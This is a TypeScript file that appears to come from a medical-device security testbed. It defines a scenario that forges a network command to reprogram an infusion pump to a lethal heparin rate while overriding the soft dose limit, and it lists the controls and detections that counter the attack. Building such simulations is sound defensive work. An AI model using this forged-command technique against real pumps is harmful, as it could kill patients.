import { z } from 'zod';
import { defineAttack } from './attack.ts';
import { connectAsAttacker, forgedCommand, runOf, targetTopic } from './support.ts';

/** A new program at a lethal rate, with the drug library's soft limit overridden as a clinician would. */
export const forgedReprogram = defineAttack({
  name: 'attack.forged-reprogram',
  category: 'attack',
  summary: 'reprogram an infusion pump to a dangerous dose rate, overriding the soft limit',
  precedent:
    'Billy Rios’s 2015 research on Hospira infusion pumps (drug library and dose limits changeable over the network), which led ' +
    'to FDA’s 2015 Symbiq safety communication; issue 17 ran heparin at 3,900 U/h this way and the scenario still PASSED.',
  labels: {},
  techniques: ['T0855', 'T0836', 'T0831'],
  stoppedBy: [
    { control: 'authentication', how: 'an outsider cannot connect' },
    { control: 'acl', how: 'a device identity may not publish to another device’s command topic' },
    { control: 'signedCommands', how: 'patched firmware refuses an unsigned program' },
    { control: 'operatorMfa', how: 'a dose-changing command needs an operator’s TOTP code' },
  ],
  detectedBy: ['unknown-client', 'unauthorized-command', 'dose-limit-override', 'refused-access'],
  impacts: ['dose-excess', 'glucose-below-54-minutes', 'time-to-detection'],
  params: z.strictObject({
    drug: z.string().min(1).default('heparin').describe('drug library entry to program'),
    doseRate: z.number().positive().default(3900).describe("dose rate in the drug's dose unit"),
    vtbi: z.number().positive().default(250).describe('volume to be infused, mL'),
  }),
  async execute(context, params) {
    const session = await connectAsAttacker(context);
    const body = { type: 'program', drug: params.drug, doseRate: params.doseRate, vtbi: params.vtbi, confirmSoftLimit: true };
    await session?.publish(targetTopic(context.target, 'cmd'), forgedCommand(context, body));
    return runOf(context.target.site, [session]);
  },
});
